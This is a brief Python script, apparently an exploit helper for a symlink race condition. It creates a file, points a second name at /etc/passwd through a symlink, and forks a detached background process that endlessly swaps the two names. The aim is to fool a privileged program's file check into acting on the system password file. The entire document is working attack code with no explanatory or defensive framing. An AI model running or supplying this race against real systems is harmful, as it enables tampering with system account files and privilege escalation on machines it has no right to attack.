import os, time

open("a", "w").write("mine")
os.symlink("/etc/passwd", "b")
if os.fork() == 0:
    os.setsid()
    while True:
        os.rename("a", "c")
        os.rename("b", "a")
        os.rename("a", "b")
        os.rename("c", "a")
time.sleep(0.05)
print("held")
